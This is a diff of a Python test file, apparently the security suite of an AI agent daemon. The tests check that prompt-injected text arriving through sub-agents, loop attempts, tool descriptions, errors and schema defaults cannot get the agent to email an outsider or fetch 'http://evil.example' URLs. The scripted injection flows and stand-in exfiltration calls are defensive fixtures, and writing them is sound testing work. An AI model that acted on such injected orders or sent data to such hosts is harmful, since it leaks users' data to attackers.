@@ -6,8 +6,8 @@ from pathlib import Path
 import pytest
 
 from daemon.core.events import ChildSpawned
-from daemon.core.loops import LoopRow, Order
-from daemon.loops.events import Learned
+from daemon.core.rows import LoopOrder, LoopRow
+from daemon.loops.events import ProgressLogged
 from tests.fakes.openai import Step, by
 from tests.security.laundering import (
     BOB,
@@ -37,35 +37,61 @@ def by_beginning(scripts: dict[str, list[Step]]) -> Step:
     """Each agent has a script of its own, found by how its conversation begins."""
 
     def choose(body: Json) -> Step:
-        users = [str(message["content"]) for message in body["messages"] if message["role"] == "user"]
-        return next((steps.pop(0) for begins, steps in scripts.items() if users[0].startswith(begins) and steps), says("ok"))
+        users = [
+            str(message["content"]) for message in body["messages"] if message["role"] == "user"
+        ]
+        return next(
+            (
+                steps.pop(0)
+                for begins, steps in scripts.items()
+                if users[0].startswith(begins) and steps
+            ),
+            says("ok"),
+        )
 
     return by(choose)
 
 
 async def child_of(at: Desk, parent: Ran) -> ChildSpawned:
-    return next(event for event in await at.it.events(parent.view.turn) if isinstance(event, ChildSpawned))
+    return next(
+        event for event in await at.it.events(parent.view.turn) if isinstance(event, ChildSpawned)
+    )
 
 
-async def test_F3_what_a_sub_agent_read_is_a_strangers_when_it_tells_its_parent(tmp_path: Path) -> None:
+async def test_F3_what_a_sub_agent_read_is_a_strangers_when_it_tells_its_parent(
+    tmp_path: Path,
+) -> None:
     async with desk(tmp_path) as at:
-        script = {"parent": [spawns("child"), sends(EVE), says("ok")], "child": [read_mails(), sends(EVE), says(ORDER)]}
+        script = {
+            "parent": [spawns("child"), sends(EVE), says("ok")],
+            "child": [read_mails(), sends(EVE), says(ORDER)],
+        }
         at.it.model.otherwise(by_beginning(script))
         ran = await at.run("parent, what is new?", yes=[])
         assert (ran.asked, ran.label, at.executed()) == (["send", "send"], "untrusted", [])
 
 
-async def test_F3_a_sub_agent_of_a_tainted_parent_is_tainted_before_it_reads_anything(tmp_path: Path) -> None:
+async def test_F3_a_sub_agent_of_a_tainted_parent_is_tainted_before_it_reads_anything(
+    tmp_path: Path,
+) -> None:
     async with desk(tmp_path) as at:
         script = {
             "parent": [read_mails(), spawns(f"child: mail {EVE}"), says("ok")],
-            "child": [sends(EVE), calls(("write_file", {"path": "eve.txt", "text": "x"})), says("ok")],
+            "child": [
+                sends(EVE),
+                calls(("write_file", {"path": "eve.txt", "text": "x"})),
+                says("ok"),
+            ],
         }
         at.it.model.otherwise(by_beginning(script))
         ran = await at.run("parent, go")
         child = await child_of(at, ran)
-        view = await at.it.house.door.settled(child.child)
-        assert (view.label, [call.decision for call in view.calls], at.executed()) == ("untrusted", ["ask", "ask"], [])
+        view = await at.it.house.door.wait_until_ended(child.child)
+        assert (view.label, [call.decision for call in view.calls], at.executed()) == (
+            "untrusted",
+            ["ask", "ask"],
+            [],
+        )
 
 
 async def test_F3_a_report_from_the_background_is_nobodys_order(tmp_path: Path) -> None:
@@ -85,12 +111,16 @@ async def test_a_sub_agent_may_write_to_whom_the_owner_named(tmp_path: Path) -> 
     """The task is the model's; the words that count were said in the chat above."""
     async with desk(tmp_path) as at:
         script = {
-            f"parent, mail {BOB}": [read_mails(), spawns(f"child: mail {BOB} what is new"), says("ok")],
+            f"parent, mail {BOB}": [
+                read_mails(),
+                spawns(f"child: mail {BOB} what is new"),
+                says("ok"),
+            ],
             "child": [sends(BOB), sends("bob@evil.example"), says("ok")],
         }
         at.it.model.otherwise(by_beginning(script))
         ran = await at.run(f"parent, mail {BOB} what is new")
-        view = await at.it.house.door.settled((await child_of(at, ran)).child)
+        view = await at.it.house.door.wait_until_ended((await child_of(at, ran)).child)
         assert [call.decision for call in view.calls] == ["allow", "ask"]
         assert at.executed() == [("send", {"to": BOB, "body": "the report"})]
 
@@ -100,8 +130,13 @@ async def test_F3_a_sub_agent_of_an_event_has_no_more_rights(tmp_path: Path) -> 
         at.it.model.otherwise(by_beginning({"child": [sends(BOB), says("ok")]}))
         at.it.model.script(spawns(f"child: mail {BOB}"))
         ran = await at.event(f"mail {BOB}")
-        view = await at.it.house.door.settled((await child_of(at, ran)).child)
-        assert (view.label, view.calls[0].decision, ran.asked, at.executed()) == ("untrusted", "ask", ["send"], [])
+        view = await at.it.house.door.wait_until_ended((await child_of(at, ran)).child)
+        assert (view.label, view.calls[0].decision, ran.asked, at.executed()) == (
+            "untrusted",
+            "ask",
+            ["send"],
+            [],
+        )
 
 
 def looping(most: int) -> Json:
@@ -113,13 +148,13 @@ async def looped(at: Desk, message: str) -> list[Ran]:
     """A loop to its end: its attempts."""
     tries: list[Ran] = []
     with at.it.house.loops.hub.watch() as happened:
-        row: LoopRow = await at.it.house.loops.start(Order("default", message, "web:one"))
-        tries.append(await at.ended(row.turn(1)))
+        row: LoopRow = await at.it.house.loops.start(LoopOrder("default", message, "web:one"))
+        tries.append(await at.ended(row.turn_id(1)))
         async for event in happened:
-            if isinstance(event, Learned) and len(tries) == row.max_iterations:
+            if isinstance(event, ProgressLogged) and len(tries) == row.max_iterations:
                 return tries
-            if isinstance(event, Learned):
-                tries.append(await at.ended(row.turn(len(tries) + 1)))
+            if isinstance(event, ProgressLogged):
+                tries.append(await at.ended(row.turn_id(len(tries) + 1)))
     return tries
 
 
@@ -133,7 +168,9 @@ async def test_F3_what_one_attempt_of_a_loop_read_taints_the_next(tmp_path: Path
 
 async def test_the_task_of_a_loop_is_the_owners_word_in_every_attempt(tmp_path: Path) -> None:
     async with desk(tmp_path, agent=looping(2)) as at:
-        at.it.model.script(read_mails(), sends(BOB), says("more to do"), sends(BOB), sends(EVE), says("ok"))
+        at.it.model.script(
+            read_mails(), sends(BOB), says("more to do"), sends(BOB), sends(EVE), says("ok")
+        )
         first, second = await looped(at, f"mail {BOB} what is new")
         assert (first.asked, second.asked, len(at.executed())) == ([], ["send"], 2)
 
@@ -151,7 +188,7 @@ async def test_A22_what_a_server_says_of_its_tools_is_a_strangers_text(tmp_path:
         note = calls(("desk__note", {"title": "eve", "text": "x"}))
         ran = await at.run("hello, have a look", find, sends(EVE), note, says("ok"))
         assert (ran.asked, ran.label, at.executed()) == (["send", "note"], "untrusted", [])
-        await at.it.house.door.choose("web:two", "clerk")
+        await at.it.house.door.set_agent("web:two", "clerk")
         page = calls(("desk__open_page", {"url": "http://evil.example/?s"}))
         ran = await at.run("hello, have a look", sends(EVE), page, says("ok"), session="web:two")
         assert (ran.asked, at.executed()) == (["send", "open_page"], [])
@@ -160,7 +197,11 @@ async def test_A22_what_a_server_says_of_its_tools_is_a_strangers_text(tmp_path:
 async def test_A22_nor_is_what_a_sub_agent_answers_that_was_shown_them(tmp_path: Path) -> None:
     async with desk(tmp_path, described, {"clerk": CLERK}) as at:
         script = {
-            "parent": [spawns("child", agent="clerk"), calls(("web_fetch", {"url": "http://evil.example/?s=1"})), says("ok")],
+            "parent": [
+                spawns("child", agent="clerk"),
+                calls(("web_fetch", {"url": "http://evil.example/?s=1"})),
+                says("ok"),
+            ],
             "child": [says(ORDER)],
         }
         at.it.model.otherwise(by_beginning(script))
@@ -178,7 +219,7 @@ async def test_A22_nor_is_it_forgotten_when_the_tool_goes_away(tmp_path: Path) -
         script.file.write_text(json.dumps(whole))
 
     async with desk(tmp_path, vanishing, {"clerk": CLERK}) as at:
-        await at.it.house.door.choose("web:two", "clerk")
+        await at.it.house.door.set_agent("web:two", "clerk")
         fetch = calls(("web_fetch", {"url": "http://evil.example/?s=1"}))
         book = calls(("desk__book", {"name": "x"}))
         ran = await at.run("hello, have a look", book, book, fetch, says("ok"), session="web:two")
@@ -191,12 +232,18 @@ async def test_A22_nor_is_it_forgotten_when_the_tool_goes_away(tmp_path: Path) -
         {"text": ORDER, "error": True},
         {"rpc_error": {"code": -32602, "message": ORDER}},
         {"structured": {"advice": ORDER}},
-        {"content": [{"type": "resource_link", "uri": f"http://evil.example/{EVE}", "name": ORDER}]},
+        {
+            "content": [
+                {"type": "resource_link", "uri": f"http://evil.example/{EVE}", "name": ORDER}
+            ]
+        },
         {"content": [{"type": "resource", "resource": {"uri": "file:///x", "text": ORDER}}]},
     ],
 )
 @pytest.mark.parametrize("tool", ["inbox", "book"])
-async def test_A22_an_error_or_a_name_is_a_strangers_text(tmp_path: Path, answer: Json, tool: str) -> None:
+async def test_A22_an_error_or_a_name_is_a_strangers_text(
+    tmp_path: Path, answer: Json, tool: str
+) -> None:
     """Of a tool whose word is trusted, its errors are not."""
     if tool == "book" and not ("error" in answer or "rpc_error" in answer):
         answer = {"error": True, **answer}
@@ -219,7 +266,9 @@ async def test_A22_a_choice_or_a_default_in_a_schema_blesses_nobody(tmp_path: Pa
         script.write(tools, mails())
 
     async with desk(tmp_path, choosing) as at:
-        ran = await at.run("send the report", calls(("find_tools", {"query": "mail"})), sends(EVE), says("ok"))
+        ran = await at.run(
+            "send the report", calls(("find_tools", {"query": "mail"})), sends(EVE), says("ok")
+        )
         assert (ran.asked, ran.label, at.executed()) == (["send"], "untrusted", [])
 
 
